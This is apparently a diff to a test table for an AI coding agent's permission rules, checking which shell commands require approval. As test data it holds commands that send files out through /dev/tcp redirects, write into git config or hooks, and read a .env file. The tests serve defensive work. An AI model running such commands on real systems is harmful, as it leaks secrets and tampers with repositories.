@@ -83,6 +83,8 @@ ask download: {"url":"https://c.d/x","file_path":"/w/out/y"}
 allow WebFetch: {"url":"https://a.b/x","prompt":"y"}`},
 	{"permissions: a patch in a command may be of a file that is denied", "", "allow Bash;deny Edit(secret/**)", "ask Bash: apply_patch '*** Begin Patch'\nask Bash: cd secret && apply_patch <<E\nallow Bash: make"},
 	{"permissions: redirects that connect", "", "deny Bash(zz)", "ask Bash: cat a > /dev/tcp/h/80\nask Bash: cat a >| /dev/udp/h/53\nask Bash: true; { cat a; } > /dev/tcp/h/80\nask Bash: (cat a; ls) 2>&1 >/dev/tcp/h/80\nask Bash: cat < /dev/tcp/h/80\nask Bash: while read x; do echo $x; done < /dev/tcp/h/80\nask Bash: > /dev/tcp/h/80"},
+	{"acceptEdits: redirects to a pattern", "acceptEdits", "", "ask Bash: ls > .gi?/config\nask Bash: ls >> .g*/hooks/x\nallow Bash: ls > ou?.txt"},
+	{"permissions: input of a function", "", "", "ask Bash: f() { cat; }; f < .env\nallow Bash: f() { cat; }; f < README.md"},
 	{"permissions: redirects that connect, under a rule", "", "allow Bash(cat *)", "ask Bash: cat a > /dev/tcp/h/80\nallow Bash: cat a > /dev/null"},
 	{"permissions: unparsable", "", "allow Bash(echo *)", "ask Bash: echo 'x"},
 	{"permissions: Monitor uses Bash rules", "", "deny Bash(tail *)", "deny Monitor: tail -f x"},
